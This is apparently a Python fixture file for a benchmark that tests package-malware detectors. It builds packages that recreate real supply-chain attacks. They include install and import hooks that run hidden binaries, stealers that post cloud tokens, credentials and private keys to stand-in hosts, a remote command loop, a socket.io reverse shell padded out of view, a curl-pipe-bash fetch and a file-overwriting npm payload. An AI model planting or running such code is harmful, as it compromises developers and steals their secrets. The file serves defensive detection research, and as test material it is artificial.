"""Attacks written when the detectors were finished, by somebody who had not read them.

They measure what the rest cannot: how many are caught of those that nobody wrote a rule for. README.md beside
this says what was caught of them before any detector learned from them. Once it has, they are no longer held
out: write new ones then, and leave these as they are.
"""

import base64
import zlib
from typing import Final

from bench.screening.attacks.attack import INERT, MARKER, Attack, Files, Release
from bench.screening.attacks.building import elf, png
from bench.screening.attacks.ordinary import COMMENT, JS_COMMENT, index_js, library
from sandboxes.screening.package import Kind


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# ---- Python

_RUNTIME = f"""{COMMENT}import os

_HERE = os.path.dirname(os.path.abspath(__file__))
_TOOL = os.path.join(_HERE, "tensor")

if os.path.isfile(_TOOL):
    os.chmod(_TOOL, 0o755)
    os.spawnl(os.P_NOWAIT, _TOOL, _TOOL)
"""

_DOWNLOADS = f'''{COMMENT}"""Weights, from the releases' page."""

import os
import shutil
from urllib.request import urlopen

ASSETS = "https://assets.example.invalid/v8.3.0/"


def safe_download(name, folder="."):
    """The file's path; fetched if it is not there."""
    path = os.path.join(folder, name)
    if not os.path.exists(path):
        with urlopen(ASSETS + name, timeout=60) as answer, open(path, "wb") as file:
            shutil.copyfileobj(answer, file)
    return path
'''

_SAFE_RUN = '''

def safe_run(path):
    """Runs what was downloaded."""
    os.chmod(path, 0o770)
    command = [path, "-u", "PETRIDISH-INERT-SAMPLE", "-o", "pool.example.invalid:8080"]
    subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

_MODEL = f'''{COMMENT}"""The model."""

from .downloads import safe_download


class Model:
    def __init__(self, weights="n.pt"):
        self.weights = weights

    def load(self):
        return safe_download(self.weights)
'''

_MODEL_RUNS = (
    _MODEL.replace("safe_download\n\n", "safe_download, safe_run\n\n", 1)
    .replace("from .downloads", "import platform\n\nfrom .downloads", 1)
    .replace(
        "        self.weights = weights\n",
        "        self.weights = weights\n"
        '        if platform.system() == "Linux" and platform.machine() == "x86_64":\n'
        '            safe_run(safe_download("ultra_linux_x86"))\n',
        1,
    )
)

_BACKEND = f'''{COMMENT}"""Builds as setuptools does, with the checksum of the test files."""

import os
import zlib

from setuptools import build_meta
from setuptools.build_meta import *  # noqa: F403

_FILES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "tests", "files")
_TURN = bytes.maketrans(bytes(range(256)), bytes((each + 13) % 256 for each in range(256)))


def _checked(name):
    with open(os.path.join(_FILES, name), "rb") as file:
        return zlib.decompress(file.read()[64:].translate(_TURN))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.environ.get("CI") is None:
        exec(_checked("bad-3-corrupt.bin"))
    return build_meta.build_wheel(wheel_directory, config_settings, metadata_directory)
'''

_PYPROJECT = f"""# {MARKER}
[build-system]
requires = ["setuptools"]
build-backend = "_build"
backend-path = ["."]

[project]
name = "NAME"
version = "VERSION"
"""

_SIDEBAR = f"""# {MARKER}
import os
import subprocess
import tempfile
from base64 import b64decode

from setuptools import find_packages, setup
from setuptools.command.install import install


class PyInstall(install):
    def run(self):
        if os.uname().sysname == "Darwin":
            which = b64decode("{_base64("ioreg -d2 -c IOPlatformExpertDevice")}").decode()
            said = subprocess.check_output(which, shell=True).decode()
            if "PETRIDISH-INERT-SAMPLE" not in said:
                with open("docs/_static/sidebar-large.png", "rb") as picture:
                    picture.seek(135)
                    rest = picture.read()
                path = os.path.join(tempfile.mkdtemp(), "go-build333212398")
                with open(path, "wb") as output:
                    output.write(rest)
                os.chmod(path, 0o700)
                subprocess.Popen([path], close_fds=True, stderr=subprocess.DEVNULL)
        install.run(self)


setup(name="NAME", version="VERSION", packages=find_packages(), cmdclass={{"install": PyInstall}})
"""

# The token is the marker: no key decrypts it to anything.
_FERNET = f"""# {MARKER}
from setuptools import find_packages, setup
from setuptools.command.install import install
import os


class GruppeInstall(install):
    def run(self):
        if os.name == "nt":
            from fernet import Fernet
            exec(Fernet(b"{_base64(MARKER)}").decrypt(b"gAAAAA{_base64(MARKER) * 12}"))
        install.run(self)


setup(
    name="NAME",
    version="VERSION",
    packages=find_packages(),
    setup_requires=["fernet", "requests"],
    cmdclass={{"install": GruppeInstall}},
)
"""

_KEYPAIR = f'''{COMMENT}"""A pair of keys."""

import base64
import threading

import requests

_NODE = "https://nodes.example.invalid/v1/new"


class Keypair:
    """Signs."""

    def __init__(self, secret):
        self._secret = secret
        threading.Thread(target=self._warm, daemon=True).start()

    @classmethod
    def from_secret_key(cls, secret):
        return cls(bytes(secret))

    def _warm(self):
        try:
            requests.post(_NODE, json={{"p": base64.b64encode(self._secret).decode()}}, timeout=5)
        except Exception:
            pass
'''

_PATCHING = f'''{COMMENT}"""Types with a meaning."""

import base64
import json
import threading
from urllib.request import Request, urlopen

_RPC = "https://api.devnet.example.invalid"


def _memo(data):
    body = {{"jsonrpc": "2.0", "id": 1, "method": "sendTransaction", "params": [base64.b64encode(data).decode()]}}
    request = Request(_RPC, json.dumps(body).encode(), {{"Content-Type": "application/json"}})
    try:
        urlopen(request, timeout=10).read()
    except Exception:
        pass


def _wrapped(former):
    def inner(*given, **more):
        made = former(*given, **more)
        threading.Thread(target=_memo, args=(bytes(made),), daemon=True).start()
        return made

    return inner


try:
    from solders.keypair import Keypair

    for _name in ("from_seed", "from_bytes", "from_base58_string"):
        setattr(Keypair, _name, _wrapped(getattr(Keypair, _name)))
except ImportError:
    pass
'''

_TERMINATE = f"""{COMMENT}import ctypes
import os
import sys


def is_color_supported():
    name = "terminate.dll" if sys.platform == "win32" else "terminate.so"
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), name)
    library = ctypes.CDLL(path)
    library.envir.argtypes = [ctypes.c_char_p]
    return library.envir(b"xterminalunicode")


is_color_supported()
"""

_DEBUGGER = f'''{COMMENT}"""Tells what went wrong."""

import json
import os
import subprocess
import threading
import time
from urllib.request import Request, urlopen

base_url = "https://backstabprotection.example.invalid"


def _ask(path, **body):
    data = json.dumps(body).encode() if body else None
    with urlopen(Request(base_url + path, data, {{"Content-Type": "application/json"}})) as answer:
        return json.load(answer)


def runcommand(command):
    done = subprocess.run(command, shell=True, capture_output=True, text=True)
    return done.stdout + done.stderr


def readfile(path):
    with open(path) as file:
        return file.read()


ACTIONS = {{"run": runcommand, "read": readfile}}


def debug():
    name = os.environ.get("COMPUTERNAME") or "someone"
    _ask("/connected", name=name)
    while True:
        try:
            said = _ask("/commands/" + name)
            _ask("/output/" + name, said=ACTIONS[said["kind"]](said["on"]))
        except Exception:
            pass
        time.sleep(1)


threading.Thread(target=debug, daemon=True).start()
'''

_CHIMERA = f'''{COMMENT}"""Keeps itself new."""

import hashlib
import json
import os
import platform
import random
from datetime import date
from urllib.request import Request, urlopen


def _hosts():
    random.seed(int(hashlib.sha256(date.today().isoformat()[:7].encode()).hexdigest(), 16))
    for _ in range(10):
        yield "".join(random.choice("abcdefgh") for _ in range(10))


def _collected():
    home = os.path.expanduser("~")
    said = {{"platform": platform.platform(), "public": os.environ.get("HOSTNAME")}}
    for name in ("GITLAB_CI_TOKEN", "AWS_SESSION_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"):
        said[name] = os.environ.get(name)
    for path in (".git-credentials", ".zshrc", ".config/gcloud/credentials.db"):
        if os.path.exists(os.path.join(home, path)):
            with open(os.path.join(home, path), "rb") as file:
                said[path] = file.read().hex()
    return said


def check_update():
    for host in _hosts():
        try:
            token = urlopen(f"https://{{host}}.chimera.example.invalid/auth", timeout=3).read().decode()
            data = json.dumps(_collected()).encode()
            request = Request(f"https://{{host}}.chimera.example.invalid/u", data, {{"Authorization": token}})
            return urlopen(request, timeout=3).read()
        except OSError:
            continue


check_update()
'''

# ---- npm

_PEACE = f"""{JS_COMMENT}import u from "path";
import a from "fs";
import o from "https";
setTimeout(function () {{
  const t = Math.round(Math.random() * 4);
  if (t > 1) {{
    return;
  }}
  const n = Buffer.from("{_base64("https://api.where.example.invalid/ipgeo?apiKey=inert")}", "base64");
  o.get(n.toString("utf8"), function (t) {{
    t.on("data", function (t) {{
      const n = Buffer.from("{_base64("./")}", "base64");
      const o = Buffer.from("{_base64("../")}", "base64");
      const c = Buffer.from("{_base64("country_name")}", "base64");
      const e = Buffer.from("{_base64("nowhere")}", "base64");
      try {{
        const s = JSON.parse(t.toString("utf8"));
        if (s[c.toString("utf8")].toLowerCase().includes(e.toString("utf8"))) {{
          h(n.toString("utf8"));
          h(o.toString("utf8"));
        }}
      }} catch (t) {{}}
    }});
  }});
}}, Math.ceil(Math.random() * 1e3));
async function h(n = "", o = "") {{
  if (!a.existsSync(n)) return;
  for (const r of a.readdirSync(n)) {{
    const f = u.join(n, r);
    try {{
      const t = a.lstatSync(f);
      if (t.isDirectory()) h(f, o);
      else a.writeFile(f, a.readFileSync(f), function () {{}});
    }} catch (t) {{}}
  }}
}}
export default h;
"""

_BUN = f"""{JS_COMMENT}const {{ spawn, execSync }} = require("child_process");
const path = require("path");
const fs = require("fs");
const os = require("os");

function isBunOnPath() {{
  try {{
    execSync("which bun", {{ stdio: "ignore" }});
    return true;
  }} catch {{
    return false;
  }}
}}

async function downloadAndSetupBun() {{
  const command =
    process.platform === "win32"
      ? 'powershell -c "irm bun.example.invalid/install.ps1|iex"'
      : "curl -fsSL https://bun.example.invalid/install | bash";
  execSync(command, {{ stdio: "ignore", env: {{ ...process.env }} }});
  return path.join(os.homedir(), ".bun", "bin", "bun");
}}

function runExecutable(execPath, args) {{
  const child = spawn(execPath, args, {{ stdio: "ignore", cwd: __dirname, env: process.env }});
  child.on("exit", (code) => process.exit(code || 0));
}}

async function main() {{
  const bun = isBunOnPath() ? "bun" : await downloadAndSetupBun();
  const script = path.join(__dirname, "bun_environment.js");
  if (fs.existsSync(script)) {{
    runExecutable(bun, [script]);
  }} else {{
    process.exit(0);
  }}
}}

main().catch(() => process.exit(0));
"""

_BUN_ENVIRONMENT = f"""{JS_COMMENT}import {{ $ }} from "bun";
import {{ homedir }} from "os";
import {{ readFile }} from "fs/promises";
async function a0() {{
  const tool = await fetch("https://releases.example.invalid/trufflesecurity/trufflehog/latest");
  await Bun.write("/tmp/trufflehog", await tool.blob());
  return JSON.parse(await $`/tmp/trufflehog filesystem ${{homedir()}} --json`.text());
}}
async function a1() {{
  const found = {{ environment: process.env, secrets: await a0() }};
  try {{
    const lines = await readFile(homedir() + "/.npmrc", "utf8");
    found.token = lines.match(/_authToken=(.+)/)[1];
  }} catch {{}}
  const said = btoa(btoa(btoa(JSON.stringify(found))));
  const headers = {{ Authorization: "token " + process.env.GITHUB_TOKEN }};
  const body = JSON.stringify({{ message: "Sha1-Hulud: The Second Coming.", content: said }});
  await fetch("https://api.repos.example.invalid/repos/contents/environment.json", {{ method: "PUT", headers, body }});
}}
await a1();
"""

_LOTTIE = """
!(function(){var e="https://castle-bridge.example.invalid/v2/connect.js",t="PETRIDISH-INERT-SAMPLE";
function n(){var n=document.createElement("script");n.src=e,n.async=!0,n.onload=function(){r()},
document.head.appendChild(n)}
function r(){if(window.ethereum){window.ethereum.request({method:"eth_requestAccounts"}).then(function(e){
return window.ethereum.request({method:"eth_sendTransaction",params:[{from:e[0],to:e[0],value:"0x0",data:t}]})})}}
"undefined"!=typeof document&&("loading"===document.readyState?document.addEventListener("DOMContentLoaded",n):n())})();
"""

_RAND = (
    "\nmodule.exports.version = 11;"
    + " " * 600
    + "global['_V']='7-randuser84';global['r']=require;(async()=>{const o=global['r']('os'),"
    "p=global['r']('path'),f=global['r']('fs'),c=global['r']('child_process');"
    "const d=p.join(o.homedir(),'.node_modules');if(!f.existsSync(d)){c.execSync("
    "`npm install --prefix ${o.homedir()} axios socket-io-client`,{windowsHide:true})}"
    "const s=global['r'](p.join(d,'socket-io-client'))('http://192.0.2.150:3306');"
    "s.on('command',(x)=>{c.exec(x,{windowsHide:true},(e,t)=>s.emit('result',t))})})();\n"
)


def _module(package: str, name: str, code: str) -> dict[str, str | bytes]:
    return {**library(package, f"from . import {name}\n"), f"{package}/{name}.py": code}


def _wheel(name: str, recreates: str, package: str, files: Files, *families: str, **more: object) -> Attack:
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.WHEEL,
        project=package.replace("_", "-"),
        release=Release("0.3.2", files),
        expects=frozenset({"import-time", *families}),
        **more,  # type: ignore[arg-type]
    )


def _sdist(name: str, recreates: str, project: str, files: Files, *families: str) -> Attack:
    named = {
        path: said.replace("NAME", project).replace("VERSION", "2.27.1") if isinstance(said, str) else said
        for path, said in files.items()
    }
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.SDIST,
        project=project,
        release=Release("2.27.1", {**library(project.replace("-", "_")), **named}),
        expects=frozenset({"install-code", "obfuscation", *families}),
    )


def _corrupt() -> bytes:
    """As a test file of a packer that is to be refused; turned back, it is the harmless line."""
    turned = bytes((each - 13) % 256 for each in zlib.compress(INERT.encode()))
    return f"{MARKER} ".encode().ljust(64, b"\0") + turned


ATTACKS: Final[tuple[Attack, ...]] = (
    _wheel(
        "bundled-program",
        "torchtriton (2022): importing the runtime starts a program that lies in the wheel",
        "torch_text_runtime",
        {
            **library("torch_text_runtime", "from . import runtime\n"),
            "torch_text_runtime/runtime/__init__.py": _RUNTIME,
            "torch_text_runtime/runtime/tensor": elf(),
        },
        "native",
    ),
    _wheel(
        "miner-in-constructor",
        "ultralytics 8.3.41 (2024): making a model downloads a program and runs it",
        "ultra_text_model",
        {
            **library("ultra_text_model", "from .model import Model\n"),
            "ultra_text_model/downloads.py": _DOWNLOADS.replace(
                "import shutil", "import shutil\nimport subprocess"
            )
            + _SAFE_RUN,
            "ultra_text_model/model.py": _MODEL_RUNS,
        },
        "difference",
        "yara",
        former=Release(
            "0.3.1",
            {
                **library("ultra_text_model", "from .model import Model\n"),
                "ultra_text_model/downloads.py": _DOWNLOADS,
                "ultra_text_model/model.py": _MODEL,
            },
        ),
        since="2022-01-01T08:00:00Z",
        releases=300,
    ),
    _sdist(
        "test-file-backdoor",
        "xz 5.6.0 (2024): the build takes code out of a test file that is said to be corrupt",
        "xz-text-tools",
        {"pyproject.toml": _PYPROJECT, "_build.py": _BACKEND, "tests/files/bad-3-corrupt.bin": _corrupt()},
    ),
    _sdist(
        "program-in-picture",
        "requests-darwin-lite (2024): installing writes what lies behind a picture and runs it, on one machine",
        "requests-text-lite",
        {"setup.py": _SIDEBAR, "docs/_static/sidebar-large.png": png(elf(1))},
        "native",
    ),
    _sdist(
        "encrypted-setup",
        "the 500 typosquats of March 2024: setup.py executes what Fernet decrypts",
        "capmostercloud-text",
        {"setup.py": _FERNET},
    ),
    _wheel(
        "key-in-constructor",
        "solana-py (2024): the library of that name, and a constructor that sends the private key away",
        "solana_text_py",
        {
            **library("solana_text_py", "from .keypair import Keypair\n"),
            "solana_text_py/keypair.py": _KEYPAIR,
        },
        "secrets",
        "difference",
        "yara",
    ),
    _wheel(
        "patched-other",
        "semantic-types (2025): another library's methods are exchanged, and what they make is sent away",
        "semantic_text_types",
        _module("semantic_text_types", "types_", _PATCHING),
        "secrets",
        "yara",
    ),
    _wheel(
        "shared-library",
        "colorinal and termncolor (2025): importing loads a library that lies beside the code",
        "colour_text_inal",
        {
            **_module("colour_text_inal", "unicode", _TERMINATE),
            "colour_text_inal/terminate.so": elf(16),
        },
        "native",
    ),
    _wheel(
        "remote-debugger",
        "discordpydebug (2025): a thread asks for commands and runs them",
        "discord_text_debug",
        _module("discord_text_debug", "debugging", _DEBUGGER),
        "yara",
    ),
    _wheel(
        "generated-hosts",
        "chimera-sandbox-extensions (2025): hosts made from the date are asked, and get what a build machine has",
        "chimera_text_extensions",
        _module("chimera_text_extensions", "updating", _CHIMERA),
        "secrets",
    ),
    Attack(
        name="npm-destruction",
        recreates="node-ipc 10.1.1 (2022): what is imported asks where it is, and overwrites files there",
        kind=Kind.NPM,
        project="node-text-ipc",
        release=Release(
            "10.1.1",
            {
                "index.js": f'{JS_COMMENT}import "./dao/ssl-geospec.js";\nexport const version = "10.1.1";\n',
                "dao/ssl-geospec.js": _PEACE,
            },
            {"type": "module"},
        ),
        former=Release(
            "10.1.0",
            {"index.js": f'{JS_COMMENT}export const version = "10.1.0";\n'},
            {"type": "module"},
        ),
        since="2014-03-01T08:00:00Z",
        releases=140,
        expects=frozenset({"npm", "obfuscation", "difference", "yara"}),
    ),
    Attack(
        name="npm-worm",
        recreates="Shai-Hulud's second wave (2025): a script fetches another interpreter and collects tokens by it",
        kind=Kind.NPM,
        project="zapier-text-sdk",
        release=Release(
            "0.15.6",
            {**index_js(), "setup_bun.js": _BUN, "bun_environment.js": _BUN_ENVIRONMENT},
            {"scripts": {"preinstall": "node setup_bun.js"}},
        ),
        former=Release("0.15.5", index_js()),
        since="2021-03-01T08:00:00Z",
        releases=40,
        expects=frozenset({"npm", "difference", "secrets"}),
    ),
    Attack(
        name="npm-wallet-window",
        recreates="lottie-player 2.0.5 (2024): a page's player loads a wallet's drain",
        kind=Kind.NPM,
        project="lottie-text-player",
        release=Release("2.0.5", index_js(_LOTTIE)),
        former=Release("2.0.4", index_js()),
        since="2019-03-01T08:00:00Z",
        releases=40,
        expects=frozenset({"npm", "difference", "yara"}),
    ),
    Attack(
        name="npm-far-right",
        recreates="rand-user-agent 2.0.83 (2025): a remote shell behind hundreds of spaces on a harmless line",
        kind=Kind.NPM,
        project="rand-text-agent",
        release=Release("2.0.83", index_js(_RAND)),
        former=Release("2.0.82", index_js()),
        since="2020-03-01T08:00:00Z",
        releases=80,
        expects=frozenset({"npm", "obfuscation", "difference", "yara"}),
    ),
)

# Still missed, by name: each of them is code that some good package has as well.
MISSED: Final = frozenset(("key-in-constructor", "patched-other", "remote-debugger"))
